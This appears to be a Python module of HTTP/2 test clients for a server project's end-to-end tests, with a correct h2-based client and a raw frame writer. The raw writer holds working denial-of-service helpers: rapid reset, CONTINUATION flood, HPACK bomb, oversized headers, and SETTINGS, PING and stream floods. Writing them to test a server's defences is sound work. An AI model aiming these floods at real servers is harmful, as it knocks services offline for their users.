"""HTTP/2 test clients for Harrow's end-to-end tests (runs under /usr/bin/python3 with `h2`).

Two layers:

* `Client`: a well-behaved client on top of the `h2` library (flow control, trailers, several
  streams at once), over h2c with prior knowledge or TLS with ALPN `h2`. For requests, streaming
  bodies and gRPC-style calls (`grpc_call`, `grpc_frame`, `grpc_messages`).
* `RawConnection`: writes frames byte by byte (its own HPACK encoder, no state machine) and reads
  every frame the server sends, so a test can send what a correct client never would: the attack
  helpers (`rapid_reset`, `continuation_flood`, `hpack_bomb`, `oversized_headers`,
  `settings_flood`, `ping_flood`, `empty_data_flood`, `open_streams`) and a zero-window reader
  (`RawConnection(..., settings={SETTINGS_INITIAL_WINDOW_SIZE: 0}, auto_window=False)`).
  `collect()` reads until the server closes (or a deadline) and returns an `Outcome`: the GOAWAY
  error code and debug data, which streams were reset with which code, and what each stream got.

Every loop here is bounded by a count and by a deadline. Tests that import this module are named
test_h2*.py: ctest runs those under the interpreter that has `h2` (/usr/bin/python3).
"""
import socket
import ssl
import struct
import time
from dataclasses import dataclass, field

import h2.config
import h2.connection
import h2.events
import h2.settings
import hpack

# Frame types (RFC 9113 §6).
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = range(10)
# Flags.
END_STREAM, ACK, END_HEADERS, PADDED, PRIORITY_FLAG = 0x1, 0x1, 0x4, 0x8, 0x20
# Settings identifiers.
SETTINGS_HEADER_TABLE_SIZE = 0x1
SETTINGS_ENABLE_PUSH = 0x2
SETTINGS_MAX_CONCURRENT_STREAMS = 0x3
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
SETTINGS_MAX_FRAME_SIZE = 0x5
SETTINGS_MAX_HEADER_LIST_SIZE = 0x6
# Error codes (RFC 9113 §7).
NO_ERROR, PROTOCOL_ERROR, INTERNAL_ERROR, FLOW_CONTROL_ERROR, SETTINGS_TIMEOUT, STREAM_CLOSED, \
    FRAME_SIZE_ERROR, REFUSED_STREAM, CANCEL, COMPRESSION_ERROR, CONNECT_ERROR, \
    ENHANCE_YOUR_CALM, INADEQUATE_SECURITY, HTTP_1_1_REQUIRED = range(14)
ERROR_NAMES = {v: k for k, v in dict(
    NO_ERROR=0, PROTOCOL_ERROR=1, INTERNAL_ERROR=2, FLOW_CONTROL_ERROR=3, SETTINGS_TIMEOUT=4,
    STREAM_CLOSED=5, FRAME_SIZE_ERROR=6, REFUSED_STREAM=7, CANCEL=8, COMPRESSION_ERROR=9,
    CONNECT_ERROR=10, ENHANCE_YOUR_CALM=11, INADEQUATE_SECURITY=12,
    HTTP_1_1_REQUIRED=13).items()}

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MAX_FRAME = 16384  # the default SETTINGS_MAX_FRAME_SIZE: what a peer accepts before it says more
# Frames and attack loops never run longer than this, whatever the caller asks for.
MAX_SECONDS = 60.0
MAX_COUNT = 1_000_000


class NotNegotiated(Exception):
    """TLS worked but the server did not select `h2` by ALPN; `selected` is what it selected
    (None: no ALPN answer)."""

    def __init__(self, selected):
        super().__init__(f"ALPN selected {selected!r}, not 'h2'")
        self.selected = selected


def _connect(host, port, tls, timeout, server_name=None, cafile=None, alpn=("h2",)):
    """A connected socket (TLS with ALPN when `tls`); returns (socket, selected ALPN or None)."""
    sock = socket.create_connection((host, port), timeout=timeout)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if not tls:
        return sock, None
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    if cafile:
        ctx.load_verify_locations(cafile)
    else:
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(list(alpn))
    try:
        tls_sock = ctx.wrap_socket(sock, server_hostname=server_name or host)
    except Exception:
        sock.close()
        raise
    return tls_sock, tls_sock.selected_alpn_protocol()


def _deadline(timeout):
    return time.monotonic() + min(timeout, MAX_SECONDS)


# ---- gRPC-style messages ---------------------------------------------------------------------

def grpc_frame(message, compressed=False):
    """One length-prefixed gRPC message: 1 flag byte, 4-byte big-endian length, the bytes."""
    return struct.pack(">BI", 1 if compressed else 0, len(message)) + message


def grpc_messages(body):
    """Splits a gRPC body into its messages; raises ValueError on a truncated one."""
    out, i = [], 0
    while i < len(body):
        if i + 5 > len(body):
            raise ValueError("truncated gRPC message prefix")
        _, n = struct.unpack(">BI", body[i:i + 5])
        if i + 5 + n > len(body):
            raise ValueError("truncated gRPC message")
        out.append(body[i + 5:i + 5 + n])
        i += 5 + n
    return out


# ---- Client: a correct HTTP/2 client on the h2 library --------------------------------------

@dataclass
class Response:
    status: int = 0
    headers: dict = field(default_factory=dict)   # lower-case name -> last value (no pseudo)
    raw_headers: list = field(default_factory=list)  # every (name, value), pseudo-headers too
    body: bytes = b""
    trailers: dict = field(default_factory=dict)
    ended: bool = False    # END_STREAM received
    reset: int = None      # RST_STREAM error code, when the stream was reset

    def messages(self):
        return grpc_messages(self.body)


class Client:
    """HTTP/2 over h2c (prior knowledge) or TLS (ALPN h2), on the h2 library.

        c = Client("127.0.0.1", port)            # or tls=True
        r = c.request("GET", "/bytes/10")       # -> Response
        sid = c.start("POST", "/echo")          # a stream whose body follows
        c.send(sid, b"..."); c.send(sid, b"", end_stream=True); r = c.wait(sid)
    """

    def __init__(self, host, port, tls=False, timeout=10.0, server_name=None, cafile=None,
                 authority=None, settings=None, alpn=("h2",)):
        self.sock, self.alpn = _connect(host, port, tls, timeout, server_name, cafile, alpn)
        if tls and self.alpn != "h2":
            self.sock.close()
            raise NotNegotiated(self.alpn)
        self.timeout = timeout
        self.scheme = "https" if tls else "http"
        self.authority = authority or f"{server_name or host}:{port}"
        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        self.conn = h2.connection.H2Connection(config=config)
        self.conn.initiate_connection()
        if settings:
            self.conn.update_settings(settings)
        self.streams = {}
        self.goaway = None  # h2.events.ConnectionTerminated once received
        self.closed = False
        self._flush()

    def close(self):
        try:
            self.conn.close_connection()
            self._flush()
        except Exception:
            pass
        self.sock.close()

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.close()

    def _flush(self):
        data = self.conn.data_to_send()
        if data:
            self.sock.sendall(data)

    def start(self, method, path, headers=(), end_stream=False, authority=None):
        """Sends a request head on a new stream; returns the stream id."""
        sid = self.conn.get_next_available_stream_id()
        hdrs = [(":method", method), (":scheme", self.scheme),
                (":authority", authority or self.authority), (":path", path), *headers]
        self.conn.send_headers(sid, hdrs, end_stream=end_stream)
        self.streams[sid] = Response()
        self._flush()
        return sid

    def send(self, sid, data, end_stream=False, timeout=None):
        """Sends body bytes as the peer's flow-control windows allow (waits for them)."""
        deadline = _deadline(timeout or self.timeout)
        view = memoryview(data)
        while view:
            window = min(self.conn.local_flow_control_window(sid),
                         self.conn.max_outbound_frame_size)
            if window <= 0:
                if not self._pump(deadline):
                    raise TimeoutError(f"stream {sid}: no flow-control window to send")
                if self.streams[sid].reset is not None:
                    raise ConnectionError(f"stream {sid} reset with {self.streams[sid].reset}")
                continue
            self.conn.send_data(sid, bytes(view[:window]))
            view = view[window:]
            self._flush()
        if end_stream:
            self.conn.end_stream(sid)
            self._flush()

    def send_trailers(self, sid, trailers):
        self.conn.send_headers(sid, list(trailers), end_stream=True)
        self._flush()

    def reset(self, sid, code=CANCEL):
        self.conn.reset_stream(sid, code)
        self._flush()

    def wait(self, sid, timeout=None):
        """Reads until stream `sid` ended or was reset; returns its Response."""
        deadline = _deadline(timeout or self.timeout)
        r = self.streams[sid]
        while not (r.ended or r.reset is not None):
            if not self._pump(deadline):
                raise TimeoutError(f"stream {sid} did not end")
        return r

    def read_body(self, sid, size, timeout=None):
        """Waits until stream `sid` has received at least `size` body bytes (or ended)."""
        deadline = _deadline(timeout or self.timeout)
        r = self.streams[sid]
        while len(r.body) < size and not (r.ended or r.reset is not None):
            if not self._pump(deadline):
                raise TimeoutError(f"stream {sid}: {len(r.body)} of {size} bytes")
        return r.body

    def request(self, method, path, headers=(), body=b"", trailers=None, timeout=None):
        sid = self.start(method, path, headers, end_stream=not body and not trailers)
        if body:
            self.send(sid, body, end_stream=not trailers, timeout=timeout)
        if trailers:
            self.send_trailers(sid, trailers)
        return self.wait(sid, timeout)

    def get(self, path, headers=(), timeout=None):
        return self.request("GET", path, headers, timeout=timeout)

    def _pump(self, deadline):
        """Reads once (up to the deadline) and handles the events; False on timeout or close."""
        if self.closed:
            return False
        remaining = deadline - time.monotonic()
        if remaining <= 0:
            return False
        self.sock.settimeout(remaining)
        try:
            data = self.sock.recv(65536)
        except socket.timeout:
            return False
        except (ConnectionError, ssl.SSLError, OSError):
            data = b""
        if not data:
            self.closed = True
            return False
        for ev in self.conn.receive_data(data):
            self._event(ev)
        self._flush()
        return True

    def _event(self, ev):
        r = self.streams.get(getattr(ev, "stream_id", None))
        if isinstance(ev, h2.events.ResponseReceived) and r is not None:
            r.raw_headers = list(ev.headers)
            for k, v in ev.headers:
                if k == ":status":
                    r.status = int(v)
                else:
                    r.headers[k.lower()] = v
        elif isinstance(ev, h2.events.TrailersReceived) and r is not None:
            r.trailers = {k.lower(): v for k, v in ev.headers}
        elif isinstance(ev, h2.events.DataReceived):
            if r is not None:
                r.body += ev.data
            # The body has been read: open the windows again (stream and connection).
            self.conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
        elif isinstance(ev, h2.events.StreamEnded) and r is not None:
            r.ended = True
        elif isinstance(ev, h2.events.StreamReset) and r is not None:
            r.reset = ev.error_code
        elif isinstance(ev, h2.events.ConnectionTerminated):
            self.goaway = ev


def grpc_call(client, method, messages, timeout_header=None, metadata=(), timeout=10.0):
    """A gRPC-style call: POST `method` (e.g. "/harrow.test.Echo/Unary") with the messages;
    returns the Response (`.messages()`, `.trailers["grpc-status"]`, or for a Trailers-Only
    answer the status in `.headers`)."""
    headers = [("content-type", "application/grpc"), ("te", "trailers"), *metadata]
    if timeout_header:
        headers.append(("grpc-timeout", timeout_header))
    body = b"".join(grpc_frame(m) for m in messages)
    sid = client.start("POST", method, headers, end_stream=not body)
    if body:
        client.send(sid, body, end_stream=True, timeout=timeout)
    return client.wait(sid, timeout)


def grpc_status(response):
    """grpc-status of a call: from the trailers, or from the headers of a Trailers-Only answer."""
    value = response.trailers.get("grpc-status", response.headers.get("grpc-status"))
    return None if value is None else int(value)


# ---- RawConnection: frames as bytes, for malformed input and floods -------------------------

def frame(ftype, flags, stream_id, payload=b""):
    """One HTTP/2 frame: 9-byte header (RFC 9113 §4.1) and the payload."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", ftype, flags,
                                                             stream_id & 0x7FFFFFFF) + payload


def settings_payload(settings):
    return b"".join(struct.pack(">HI", k, v) for k, v in dict(settings).items())


@dataclass
class StreamSeen:
    """What the server sent on one stream, as seen by RawConnection."""
    status: int = None
    headers: list = field(default_factory=list)
    trailers: list = field(default_factory=list)
    data_bytes: int = 0
    data: bytes = b""  # the first RawConnection.keep_data bytes of the body
    ended: bool = False
    reset: int = None


@dataclass
class Outcome:
    """Everything the server sent on a RawConnection so far."""
    goaway_code: int = None
    goaway_last_stream: int = None
    goaway_debug: bytes = b""
    resets: dict = field(default_factory=dict)   # stream id -> RST_STREAM error code
    streams: dict = field(default_factory=dict)  # stream id -> StreamSeen
    closed: bool = False      # the server closed (or reset) the TCP connection
    settings: dict = field(default_factory=dict)  # the server's SETTINGS, merged
    frames: int = 0           # frames received
    frame_counts: dict = field(default_factory=dict)  # frame type -> count
    window_updates: int = 0
    send_error: str = None    # why a send failed (the server stopped reading or closed)

    def goaway_name(self):
        return ERROR_NAMES.get(self.goaway_code, self.goaway_code)

    def reset_codes(self):
        return set(self.resets.values())


class RawConnection:
    """An HTTP/2 connection driven frame by frame. Sends the preface and SETTINGS at once
    (`preface=False`: nothing, for tests of what comes before it);
    received SETTINGS are acknowledged and PINGs answered unless told otherwise; DATA is
    acknowledged with WINDOW_UPDATE only when `auto_window`."""

    def __init__(self, host, port, tls=False, timeout=10.0, settings=None, server_name=None,
                 authority=None, auto_window=True, ack_settings=True, answer_ping=True,
                 preface=True, keep_data=1 << 20, alpn=("h2",)):
        self.sock, self.alpn = _connect(host, port, tls, timeout, server_name, alpn=alpn)
        if tls and self.alpn != "h2":
            self.sock.close()
            raise NotNegotiated(self.alpn)
        self.timeout = timeout
        self.scheme = "https" if tls else "http"
        self.authority = authority or f"{server_name or host}:{port}"
        self.auto_window = auto_window
        self.ack_settings = ack_settings
        self.answer_ping = answer_ping
        self.keep_data = keep_data
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 24  # report what came; limits are the server's
        self.next_stream = 1
        self.outcome = Outcome()
        self._inbuf = b""
        self._header_block = None  # (stream id, flags, fragments) while CONTINUATIONs follow
        if preface:
            self.send(PREFACE + frame(SETTINGS, 0, 0, settings_payload(settings or {})))

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.close()

    # -- sending --

    def send(self, data):
        """Sends raw bytes; returns False (and records why) when the server no longer takes
        them: it closed, reset, or stopped reading for longer than the timeout."""
        if self.outcome.send_error:
            return False
        try:
            self.sock.settimeout(self.timeout)
            self.sock.sendall(data)
            return True
        except (OSError, ssl.SSLError) as e:  # socket.timeout is an OSError
            self.outcome.send_error = type(e).__name__
            return False

    def send_frame(self, ftype, flags, stream_id, payload=b""):
        return self.send(frame(ftype, flags, stream_id, payload))

    def new_stream_id(self):
        sid = self.next_stream
        self.next_stream += 2
        return sid

    def request_headers(self, method="GET", path="/", headers=(), authority=None):
        return [(":method", method), (":scheme", self.scheme),
                (":authority", authority or self.authority), (":path", path), *headers]

    def encode(self, headers):
        return self.encoder.encode(headers)

    def header_frames(self, stream_id, block, end_stream=True, end_headers=True):
        """HEADERS (+ CONTINUATIONs) carrying `block`, split at MAX_FRAME."""
        chunks = [block[i:i + MAX_FRAME] for i in range(0, len(block), MAX_FRAME)] or [b""]
        out = []
        for i, chunk in enumerate(chunks):
            last = i == len(chunks) - 1
            flags = (END_HEADERS if last and end_headers else 0)
            if i == 0:
                out.append(frame(HEADERS, flags | (END_STREAM if end_stream else 0), stream_id,
                                 chunk))
            else:
                out.append(frame(CONTINUATION, flags, stream_id, chunk))
        return b"".join(out)

    def send_headers(self, stream_id, headers, end_stream=True):
        return self.send(self.header_frames(stream_id, self.encode(headers), end_stream))

    def request(self, method="GET", path="/", headers=(), body=None, authority=None):
        """Sends one request (body in one DATA frame at most MAX_FRAME); returns its stream id."""
        sid = self.new_stream_id()
        self.send_headers(sid, self.request_headers(method, path, headers, authority),
                          end_stream=body is None)
        if body is not None:
            self.send_frame(DATA, END_STREAM, sid, body)
        return sid

    def window_update(self, stream_id, increment):
        return self.send_frame(WINDOW_UPDATE, 0, stream_id, struct.pack(">I", increment))

    # -- receiving --

    def read_frame(self, deadline):
        """The next frame as (type, flags, stream id, payload), or None on close or deadline."""
        while True:
            if len(self._inbuf) >= 9:
                length = int.from_bytes(self._inbuf[:3], "big")
                if len(self._inbuf) >= 9 + length:
                    ftype, flags, sid = struct.unpack(">BBI", self._inbuf[3:9])
                    payload = self._inbuf[9:9 + length]
                    self._inbuf = self._inbuf[9 + length:]
                    return ftype, flags, sid & 0x7FFFFFFF, payload
            if self.outcome.closed:
                return None
            remaining = deadline - time.monotonic()
            if remaining <= 0:
                return None
            self.sock.settimeout(remaining)
            try:
                data = self.sock.recv(65536)
            except socket.timeout:
                return None
            except (OSError, ssl.SSLError):
                data = b""
            if not data:
                self.outcome.closed = True
                continue
            self._inbuf += data

    def _stream(self, sid):
        return self.outcome.streams.setdefault(sid, StreamSeen())

    def _handle(self, ftype, flags, sid, payload):
        o = self.outcome
        o.frames += 1
        o.frame_counts[ftype] = o.frame_counts.get(ftype, 0) + 1
        flow_length = len(payload)  # padding counts against flow control too
        if ftype in (DATA, HEADERS) and flags & PADDED and payload:
            pad = payload[0]
            payload = payload[1:len(payload) - pad]
        if ftype == DATA:
            s = self._stream(sid)
            s.data_bytes += len(payload)
            if len(s.data) < self.keep_data:
                s.data += payload[:self.keep_data - len(s.data)]
            if flags & END_STREAM:
                s.ended = True
            if self.auto_window and flow_length:
                self.window_update(0, flow_length)
                if not flags & END_STREAM:
                    self.window_update(sid, flow_length)
        elif ftype == HEADERS:
            if flags & PRIORITY_FLAG:
                payload = payload[5:]
            self._header_block = (sid, flags, [payload])
            if flags & END_HEADERS:
                self._headers_done()
        elif ftype == CONTINUATION and self._header_block is not None:
            self._header_block[2].append(payload)
            if flags & END_HEADERS:
                self._headers_done()
        elif ftype == RST_STREAM and len(payload) >= 4:
            code = struct.unpack(">I", payload[:4])[0]
            o.resets[sid] = code
            self._stream(sid).reset = code
        elif ftype == SETTINGS and not flags & ACK:
            for i in range(0, len(payload) - 5, 6):
                k, v = struct.unpack(">HI", payload[i:i + 6])
                o.settings[k] = v
            if self.ack_settings:
                self.send_frame(SETTINGS, ACK, 0)
        elif ftype == PING and not flags & ACK and self.answer_ping:
            self.send_frame(PING, ACK, 0, payload)
        elif ftype == GOAWAY and len(payload) >= 8:
            last, code = struct.unpack(">II", payload[:8])
            o.goaway_last_stream, o.goaway_code, o.goaway_debug = last & 0x7FFFFFFF, code, payload[8:]
        elif ftype == WINDOW_UPDATE:
            o.window_updates += 1

    def _headers_done(self):
        sid, flags, fragments = self._header_block
        self._header_block = None
        try:
            headers = self.decoder.decode(b"".join(fragments), raw=False)
        except Exception as e:  # a server bug worth seeing, not a client crash
            headers = [("x-h2client-decode-error", str(e))]
        s = self._stream(sid)
        status = next((v for k, v in headers if k == ":status"), None)
        if s.status is None or (s.status < 200 and status is not None):
            s.status = int(status) if status is not None else None
            s.headers = headers
        else:
            s.trailers = headers
        if flags & END_STREAM:
            s.ended = True

    def collect(self, timeout=5.0, until=None, max_frames=100_000):
        """Reads frames until the connection closes, `until(outcome)` is true, the deadline
        passes or `max_frames` were read; returns the Outcome."""
        deadline = _deadline(timeout)
        for _ in range(min(max_frames, MAX_COUNT)):
            if until is not None and until(self.outcome):
                break
            f = self.read_frame(deadline)
            if f is None:
                break
            self._handle(*f)
        return self.outcome

    def read_until_closed(self, timeout=5.0):
        """Reads until the server closes the connection (or the deadline); returns the Outcome
        (`closed` says which happened)."""
        return self.collect(timeout)

    def response(self, sid, timeout=5.0):
        """Reads until stream `sid` ended or was reset (or the connection closed)."""
        self.collect(timeout, until=lambda o: sid in o.streams and (
            o.streams[sid].ended or o.streams[sid].reset is not None))
        return self.outcome.streams.get(sid)

    # -- attacks; each returns how many units were sent before the server stopped taking them --

    def _bounded(self, count, seconds, unit):
        """Calls unit(i) up to `count` times or until `seconds` pass or a send fails."""
        deadline = _deadline(seconds)
        sent = 0
        for i in range(min(count, MAX_COUNT)):
            if time.monotonic() > deadline or not unit(i):
                break
            sent += 1
        return sent

    def rapid_reset(self, count, path="/", seconds=10.0, batch=100):
        """CVE-2023-44487: HEADERS then RST_STREAM(CANCEL) at once, `count` times, `batch`
        pairs per write."""
        def unit(_):
            pairs = []
            for _ in range(batch):
                sid = self.new_stream_id()
                block = self.encode(self.request_headers("GET", path))
                pairs.append(frame(HEADERS, END_HEADERS | END_STREAM, sid, block))
                pairs.append(frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL)))
            return self.send(b"".join(pairs))
        return self._bounded((count + batch - 1) // batch, seconds, unit) * batch

    def continuation_flood(self, count, fragment_bytes=1000, seconds=10.0, batch=50):
        """CVE-2024-27316 class: a HEADERS without END_HEADERS, then CONTINUATION frames that
        never end the block, each carrying a never-indexed header of `fragment_bytes` (0 =
        empty frames)."""
        sid = self.new_stream_id()
        if not self.send(frame(HEADERS, END_STREAM, sid,
                               self.encode(self.request_headers("GET", "/")))):
            return 0
        piece = b""
        if fragment_bytes:
            piece = self.encode([hpack.NeverIndexedHeaderTuple("x-flood", "a" * fragment_bytes)])
        one = frame(CONTINUATION, 0, sid, piece)
        return self._bounded((count + batch - 1) // batch, seconds,
                             lambda _: self.send(one * batch)) * batch

    def hpack_bomb(self, references=10_000, value_bytes=4000, path="/"):
        """One header of `value_bytes` enters the dynamic table, then the same request refers to
        it `references` times (one byte each): a small block that decodes to
        references × value_bytes. Returns the stream id."""
        if value_bytes + len("x-bomb") + 32 > 4096:
            raise ValueError("the header must fit the default 4096-byte dynamic table")
        sid = self.new_stream_id()
        block = self.encode(self.request_headers("GET", path) + [("x-bomb", "b" * value_bytes)])
        block += b"\xbe" * references  # indexed field 62: the newest dynamic table entry
        self.send(self.header_frames(sid, block))
        return sid

    def oversized_headers(self, total_bytes=1 << 20, header_bytes=1000, path="/"):
        """A request whose header list is `total_bytes` long (distinct names, never indexed),
        spread over HEADERS and CONTINUATION frames. Returns the stream id."""
        sid = self.new_stream_id()
        n = max(1, min(total_bytes // header_bytes, MAX_COUNT))
        extra = [hpack.NeverIndexedHeaderTuple(f"x-big-{i}", "v" * header_bytes) for i in range(n)]
        self.send(self.header_frames(sid, self.encode(self.request_headers("GET", path) + extra)))
        return sid

    def settings_flood(self, count, seconds=10.0, batch=100):
        """Empty SETTINGS frames (each wants an ACK), `batch` per write."""
        one = frame(SETTINGS, 0, 0)
        return self._bounded((count + batch - 1) // batch, seconds,
                             lambda _: self.send(one * batch)) * batch

    def ping_flood(self, count, seconds=10.0, batch=100):
        """PING frames (each wants an ACK), `batch` per write."""
        return self._bounded((count + batch - 1) // batch, seconds,
                             lambda i: self.send(b"".join(
                                 frame(PING, 0, 0, struct.pack(">Q", i * batch + k))
                                 for k in range(batch)))) * batch

    def empty_data_flood(self, count, path="/echo", seconds=10.0, batch=100):
        """Opens a POST stream and sends `count` empty DATA frames on it (no END_STREAM)."""
        sid = self.new_stream_id()
        if not self.send_headers(sid, self.request_headers("POST", path), end_stream=False):
            return 0
        one = frame(DATA, 0, sid)
        return self._bounded((count + batch - 1) // batch, seconds,
                             lambda _: self.send(one * batch)) * batch

    def open_streams(self, count, method="POST", path="/echo", seconds=10.0):
        """Opens `count` streams that stay open (request bodies never end): more than the
        server's SETTINGS_MAX_CONCURRENT_STREAMS should be refused. Returns their ids."""
        ids = []

        def unit(_):
            sid = self.new_stream_id()
            ids.append(sid)
            return self.send_headers(sid, self.request_headers(method, path), end_stream=False)
        self._bounded(count, seconds, unit)
        return ids
